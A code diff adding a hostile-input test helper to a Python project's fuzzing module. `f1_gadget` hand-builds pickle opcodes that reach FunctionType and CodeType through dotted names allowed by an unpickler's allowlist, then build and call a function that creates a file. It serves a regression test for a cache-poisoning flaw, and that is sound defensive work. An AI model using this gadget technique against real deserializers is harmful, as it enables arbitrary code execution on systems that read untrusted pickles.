@@ -19,15 +19,22 @@ What a fuzzer or a hostile-corpus test throws at a loader (issue 22):
   century years, and now and then any date; `calendar_edge_instants()` the
   same as the `as_of` strings the validator accepts (`YYYY-MM-DD`,
   `...T00:00:00Z`, `...T23:59:59Z`).
+* `f1_gadget(path)`: the parse cache attack of round 3's F1 — a pickle
+  that, read by an unpickler allowing "types of govmem's pure packages",
+  resolves the dotted names `Config.__init__.__class__` (FunctionType) and
+  `Config.__init__.__code__.__class__` (CodeType), makes a function and calls
+  it: it creates the file `path`. A cache that holds data reads it as a miss.
 """
 
 from __future__ import annotations
 
 import os
+import pickle
 import socket
+import types
 from datetime import date
 from pathlib import Path
-from typing import Final
+from typing import Any, Final
 
 from hypothesis import strategies as st
 
@@ -159,4 +166,57 @@ def calendar_edge_instants() -> st.SearchStrategy[str]:
         lambda d, t: d.isoformat() + t,
         calendar_edge_dates(),
         st.sampled_from(("", "T00:00:00Z", "T23:59:59Z")),
+    )
+
+
+def f1_gadget(path: str = "BOOM") -> bytes:
+    """Pickle opcodes that create the file `path` when unpickled by a reader that lets
+    `govmem.model.records`'s dotted names through (module docstring). Built by hand, as an
+    attacker would: `STACK_GLOBAL` twice, then `REDUCE` three times."""
+    code = compile(f"open({path!r}, 'w').close()", "<gadget>", "exec")
+    fields: list[Any] = [
+        code.co_argcount,
+        code.co_posonlyargcount,
+        code.co_kwonlyargcount,
+        code.co_nlocals,
+        code.co_stacksize,
+        code.co_flags,
+        code.co_code,
+        code.co_consts,
+        code.co_names,
+        code.co_varnames,
+        code.co_filename,
+        code.co_name,
+        code.co_qualname,
+        code.co_firstlineno,
+        code.co_linetable,
+        code.co_exceptiontable,
+        code.co_freevars,
+        code.co_cellvars,
+    ]
+    assert types.CodeType(*fields).co_code == code.co_code
+    args = pickle.dumps(tuple(fields), protocol=3)[2:-1]  # no PROTO, no STOP; no memo clash
+
+    def name(module: str, qualname: str) -> bytes:
+        return (
+            b"".join(
+                pickle.SHORT_BINUNICODE + bytes([len(s)]) + s.encode() for s in (module, qualname)
+            )
+            + pickle.STACK_GLOBAL
+        )
+
+    return b"".join(
+        [
+            pickle.PROTO + b"\x04",
+            name("govmem.model.records", "Config.__init__.__class__"),  # FunctionType
+            name("govmem.model.records", "Config.__init__.__code__.__class__"),  # CodeType
+            args,
+            pickle.REDUCE,  # the code object
+            pickle.EMPTY_DICT,
+            pickle.TUPLE2,
+            pickle.REDUCE,  # a function of it
+            pickle.EMPTY_TUPLE,
+            pickle.REDUCE,  # called
+            pickle.STOP,
+        ]
     )
